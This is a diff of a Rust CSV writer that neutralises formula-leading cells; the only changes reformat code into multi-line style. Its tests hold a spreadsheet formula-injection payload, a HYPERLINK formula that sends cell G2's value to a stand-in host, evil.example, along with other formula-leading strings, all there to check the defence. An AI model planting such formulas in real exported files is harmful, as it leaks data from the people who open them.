@@ -35,7 +35,9 @@ pub struct SpreadsheetCsv {
 
 impl Default for SpreadsheetCsv {
     fn default() -> Self {
-        SpreadsheetCsv { writer: csv::Writer::from_writer(Vec::new()) }
+        SpreadsheetCsv {
+            writer: csv::Writer::from_writer(Vec::new()),
+        }
     }
 }
 
@@ -46,13 +48,18 @@ impl SpreadsheetCsv {
         I: IntoIterator<Item = S>,
         S: AsRef<str>,
     {
-        let cells: Vec<String> = cells.into_iter().map(|cell| neutralise(cell.as_ref()).into_owned()).collect();
+        let cells: Vec<String> = cells
+            .into_iter()
+            .map(|cell| neutralise(cell.as_ref()).into_owned())
+            .collect();
         Ok(self.writer.write_record(&cells)?)
     }
 
     /// The document's bytes (UTF-8).
     pub fn finish(self) -> Result<Vec<u8>, CsvError> {
-        self.writer.into_inner().map_err(|e| CsvError::Flush(e.to_string()))
+        self.writer
+            .into_inner()
+            .map_err(|e| CsvError::Flush(e.to_string()))
     }
 }
 
@@ -63,17 +70,38 @@ mod tests {
     #[test]
     fn formula_cells_are_neutralised_and_others_kept() {
         let mut csv = SpreadsheetCsv::default();
-        csv.row(["=HYPERLINK(\"https://evil.example/?x=\"&G2,\"CV\")", "+1", "-2", "@SUM(1)", "\t=1", "\r=1", "Ada", "", "a=b", "3"]).expect("row");
+        csv.row([
+            "=HYPERLINK(\"https://evil.example/?x=\"&G2,\"CV\")",
+            "+1",
+            "-2",
+            "@SUM(1)",
+            "\t=1",
+            "\r=1",
+            "Ada",
+            "",
+            "a=b",
+            "3",
+        ])
+        .expect("row");
         let text = String::from_utf8(csv.finish().expect("bytes")).expect("utf-8");
         assert_eq!(text, "\"'=HYPERLINK(\"\"https://evil.example/?x=\"\"&G2,\"\"CV\"\")\",'+1,'-2,'@SUM(1),'\t=1,\"'\r=1\",Ada,,a=b,3\n");
     }
 
     #[test]
     fn every_hostile_line_starting_like_a_formula_is_neutralised() {
-        for line in include_str!("../../tests/data/hostile-text.txt").lines().filter(|l| !l.starts_with("# ")) {
+        for line in include_str!("../../tests/data/hostile-text.txt")
+            .lines()
+            .filter(|l| !l.starts_with("# "))
+        {
             let cell = neutralise(line);
-            assert!(!cell.starts_with(FORMULA_STARTS), "{line:?} still starts like a formula");
-            assert!(cell == line || cell == format!("'{line}"), "{line:?} changed beyond the prefix");
+            assert!(
+                !cell.starts_with(FORMULA_STARTS),
+                "{line:?} still starts like a formula"
+            );
+            assert!(
+                cell == line || cell == format!("'{line}"),
+                "{line:?} changed beyond the prefix"
+            );
         }
     }
 }
